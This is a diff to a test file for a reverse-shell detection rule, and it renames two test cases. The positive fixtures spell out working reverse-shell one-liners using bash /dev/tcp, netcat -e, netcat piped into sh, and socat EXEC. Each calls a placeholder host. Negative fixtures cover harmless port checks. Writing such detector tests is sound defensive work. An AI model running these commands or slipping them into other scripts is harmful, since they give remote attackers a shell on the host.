@@ -4,7 +4,7 @@ import { reverseShell } from './reverse-shell.ts';
 ruleCases(reverseShell, {
   hits: [
     { name: 'a shell on a socket', path: 'a.sh', text: 'bash -i >& /dev/tcp/x.example/443 0>&1\n' },
-    { name: 'netcat that runs one', text: 'Run `nc -e /bin/sh x.example 443` now.\n' },
+    { name: 'netcat that runs a shell', text: 'Run `nc -e /bin/sh x.example 443` now.\n' },
     { name: 'netcat into a shell', path: 'a.sh', text: 'nc -l -p 9000 | sh\n' },
     { name: 'socat', path: 'a.sh', text: "socat TCP:x.example:443 EXEC:'bash -li',pty\n" },
     {
@@ -24,7 +24,11 @@ ruleCases(reverseShell, {
       path: 'a.sh',
       text: "timeout 1 bash -c 'echo > /dev/tcp/localhost/80'\n",
     },
-    { name: 'netcat that only looks', path: 'a.sh', text: 'nc -z localhost 5432 && echo up\n' },
+    {
+      name: 'netcat that only tests a port',
+      path: 'a.sh',
+      text: 'nc -z localhost 5432 && echo up\n',
+    },
     {
       name: 'a server',
       path: 'a.py',
